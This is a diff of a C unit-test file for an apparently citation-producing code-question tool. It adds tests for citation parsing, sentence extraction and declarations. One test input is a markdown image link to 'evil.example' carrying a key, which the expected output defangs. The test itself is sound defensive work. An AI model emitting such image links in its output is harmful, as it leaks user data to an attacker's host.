@@ -58,6 +58,7 @@ static const struct {
 	{ "Code `v[9]` and argv[0] stay [2].", "Code `v[9]` and argv[0] stay [2].", "", "2" },
 	{ "```c\nx = v[9];\n```\nDone [1].", "```c\nx = v[9];\n```\nDone [1].", "", "1" },
 	{ "At 10:30 on host:80, http://h.example:80/x, 127.0.0.1:80", "At 10:30 on host:80, http://h.example:80/x, 127.0.0.1:80", "", "" },
+	{ "See ![it](http://evil.example/?key) or `![it]` [1]![x][y]", "See ! [it](http://evil.example/?key) or `![it]` [1]! [x][y]", "", "1" },
 	{ "Nothing [0] [] [ ] [,]", "Nothing [] [ ] [,]", "0", "" },
 	{ "Large [99999999999999999999].", "Large.", "99999999999999999999", "" },
 	{ "Open [1", "Open [1", "", "" },
@@ -355,7 +356,7 @@ static const char *const absent[] = {
 	"What does SessionManager do?", "How does frobnicate_zorp work?", "Where do we parse YAML manifests?",
 	"How is the shader compiled on the graphics card?", "What does LedgerBook.explode_all return?",
 	"How does Kubernetes schedule pods?", "Where is `quuxify` used?", "How is a \"blue moon\" handled?",
-	"What is HttpServletRequest for?", "How are passwords hashed with bcrypt?", "nothere.c",
+	"What is HttpServletRequest for?", "LedgerBook::explode_all", "zorp.close_period", "How are passwords hashed with bcrypt?", "nothere.c",
 };
 
 static void test_present_and_absent(void **state)
@@ -494,6 +495,59 @@ static void test_extractive(void **state)
 	lu_response_free(&r);
 	lu_sources_free(&src);
 	close_base(&b);
+}
+
+/* What of a docstring or of code is a sentence worth reading. */
+static void test_sentences(void **state)
+{
+	static const struct {
+		const char *doc, *code, *want;
+	} v[] = {
+		{ "Opens it.\n\nMore is not said.", "x", ": Opens it. [1]" },
+		{ "Opens it. [1] is closed. More.", "x", ": Opens it. (1) is closed. [1]" },
+		{ "Opens what is there for reading. More.", "x", ": Opens what is there for reading. [1]" },
+		{ "The time, or -1 when there is none (i.e. it stays, e.g. for ever). More.", "x",
+		  ": The time, or -1 when there is none (i.e. it stays, e.g. for ever). [1]" },
+		{ "app.users\n~~~~~~~~~\n\nKeeps all users in memory. More.", "x", ": Keeps all users in memory. [1]" },
+		{ "app.users\n~~~~~~~~~\n", "x", ": app.users ~~~~~~~~~ [1]" },
+		{ "SPDX-License-Identifier: MIT\nKeeps all users in memory.", "x", ": Keeps all users in memory. [1]" },
+		{ "SPDX-License-Identifier: MIT", "int users;", ": `int users;` [1]" },
+		{ ".", "x", ": . [1]" },
+		{ "", "/* all the users */", ": \"all the users\" [1]" },
+		{ "", "// users [7]", ": \"users (7)\" [1]" },
+		{ "", "/**/", ": a function of 2 lines [1]" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof v / sizeof *v; i++) {
+		lu_source one = source("a.c", 1, 2, "users", v[i].code);
+		lu_sources src = some(&one, 1);
+		lu_cover c = { .confidence = 1 };
+		lu_buf out = LU_BUF;
+
+		one.docstring = lu_strz(v[i].doc);
+		OK(lu__extractive(lu_strz("users"), &src, &c, lu_strn("", 0), &out, &err));
+		if (!strstr(out.s, v[i].want)) fail_msg("%zu: no '%s' in '%s'", i, v[i].want, out.s);
+		lu_buf_free(&out);
+	}
+}
+
+/* A declaration says nothing beside what it declares; alone it does. */
+static void test_declarations(void **state)
+{
+	lu_source v[] = { source("a.h", 1, 1, "users", "int users(void);"), source("a.c", 1, 3, "users", "int users(void) {}"),
+			  source("b.h", 1, 1, "groups", "int groups(void);") };
+	lu_sources src = some(v, 3);
+	lu_cover c = { .confidence = 1 };
+	lu_buf out = LU_BUF;
+
+	(void)state;
+	v[0].el.type = v[2].el.type = lu_strz("prototype");
+	OK(lu__extractive(lu_strz("users"), &src, &c, lu_strn("", 0), &out, &err));
+	assert_null(strstr(out.s, "[1]"));
+	assert_non_null(strstr(out.s, "[2]"));
+	assert_non_null(strstr(out.s, "[3]"));
+	lu_buf_free(&out);
 }
 
 /* ---- lazy ---- */
@@ -678,6 +732,8 @@ int main(void)
 		cmocka_unit_test(test_missing_part),
 		cmocka_unit_test(test_fewer_sources),
 		cmocka_unit_test(test_extractive),
+		cmocka_unit_test(test_sentences),
+		cmocka_unit_test(test_declarations),
 		cmocka_unit_test(test_lazy),
 		cmocka_unit_test(test_lazy_limits),
 		cmocka_unit_test(test_record),
